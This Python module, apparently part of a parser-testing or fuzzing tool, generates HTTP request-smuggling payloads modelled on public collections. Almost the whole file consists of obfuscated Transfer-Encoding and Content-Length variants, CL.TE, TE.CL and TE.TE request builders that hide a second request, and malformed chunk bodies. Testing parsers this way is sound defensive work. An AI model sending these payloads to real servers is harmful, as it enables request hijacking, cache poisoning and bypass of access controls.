"""Requests that two readers could take for different ones, as the public collections of smuggling payloads make them.

Here belong the ways to write ``Transfer-Encoding: chunked`` and ``Content-Length`` so that one reader sees the field
and another does not (PortSwigger's HTTP Request Smuggler, defparam's Smuggler: `default`, `doubles`, `exhaustive`),
and the two framings that they are used with.  Not here: what must come of them.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

CHUNKED = b"Transfer-Encoding: chunked"
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: x\r\nX: "
ODD = (0x01, 0x04, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1F, 0x20, 0x7F, 0xA0, 0xFF)
"""Bytes that some reader somewhere takes for white space, or for nothing."""
ALL = tuple(range(0x01, 0x21)) + tuple(range(0x7F, 0x100))
WORDS = (
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:  chunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: 'chunked'",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: cow chunked bar",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: x, chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: \r\n chunked",
    b"Transfer-Encoding\r\n : chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Foo: bar\r\n\rTransfer-Encoding: chunked",
    b"Foo: bar\nTransfer-Encoding: chunked",
    b"Foo: bar\r\n Transfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    b"\xefTransfer-Encoding: chunked",
    b"Tran\xc5\xbffer-Encoding: chunked",
    b"Transfer-\xc3\x8bncoding: chunked",
)
LENGTHS = (
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: %d",
    b"Content-Length: %d, %d",
    b"Content-Length: +%d",
    b"Content-Length: 0%d",
    b"Content-Length: 0x%d",
    b"Content-Length: %d ",
    b"Content-Length : %d",
    b"Content-Length:\x0b%d",
    b"Content-Length: %d\x0b",
    b"Content-Length: %d\nX: y",
    b"Content_Length: %d",
    b"Content-Length: %d\r\n\r\nX: y",
    b"Content-Length: -%d",
    b"Content-Length: %de0",
    b"Content-Length: 1_0",
    b"Content-Length: \xd9\xa3",
)


def codings(odd: tuple[int, ...] = ODD) -> Iterator[bytes]:
    """Each way to write the field, once."""
    yield from WORDS
    for number in odd:
        byte = bytes([number])
        yield b"Transfer-Encoding:" + byte + b"chunked"
        yield b"Transfer-Encoding" + byte + b": chunked"
        yield byte + CHUNKED
        yield CHUNKED + byte
        yield b"X: X" + byte + CHUNKED
        yield CHUNKED + byte + b"X: X"
        yield b"X: X\r" + byte + CHUNKED
        yield b"X: X" + byte + b"\n" + CHUNKED
        yield CHUNKED + b"\r" + byte + b"X: X"
        yield CHUNKED + byte + b"\nX: X"


def requests(line: bytes, doc: bytes, odd: tuple[int, ...] = ODD) -> Iterator[bytes]:
    """Requests with *line* whose body is *doc* to one reader, and the end of *doc* and a request to another."""
    for coding in codings(odd):
        # CL.TE: the length covers what is behind the last chunk
        body = b"%x\r\n%b\r\n0\r\n\r\n%b" % (len(doc), doc, SMUGGLED)
        yield b"%b\r\nHost: x\r\nContent-Length: %d\r\n%b\r\n\r\n%b" % (line, len(body), coding, body)
        # TE.CL: the length covers the first line alone
        first = b"%x\r\n" % (len(SMUGGLED) + 2)
        body = first + SMUGGLED + b"\r\n0\r\n\r\n"
        yield b"%b\r\nHost: x\r\nContent-Length: %d\r\n%b\r\n\r\n%b" % (line, len(first), coding, body)
        # TE.TE: no length at all
        yield b"%b\r\nHost: x\r\n%b\r\n\r\n%x\r\n%b\r\n0\r\n\r\n%b" % (line, coding, len(doc), doc, SMUGGLED)
    for length in LENGTHS:
        filled = length.replace(b"%d", b"%d" % len(doc))
        yield b"%b\r\nHost: x\r\n%b\r\n\r\n%b%b" % (line, filled, doc, SMUGGLED)


BODIES = (
    b"5;ext=\n\r\nhello\r\n0\r\n\r\n",
    b"5;ext=1\nhello\r\n0\r\n\r\n",
    b"5\nhello\r\n0\r\n\r\n",
    b"5 \r\nhello\r\n0\r\n\r\n",
    b"+5\r\nhello\r\n0\r\n\r\n",
    b"0x5\r\nhello\r\n0\r\n\r\n",
    b"-5\r\nhello\r\n0\r\n\r\n",
    b"5_0\r\nhello\r\n0\r\n\r\n",
    b"\r\nhello\r\n0\r\n\r\n",
    b"5\r\nhelloX\r\n0\r\n\r\n",
    b"5\r\nhello\n0\r\n\r\n",
    b"5\r\nhello\r\n0\r\nContent-Length: 3\nX\r\n\r\n",
    b"fffffffffffffffff5\r\nhello\r\n0\r\n\r\n",
    b"5\r\nhello\r\n0\n\n",
    b"5\rXhello\r\n0\r\n\r\n",
)
"""Chunks that are none."""
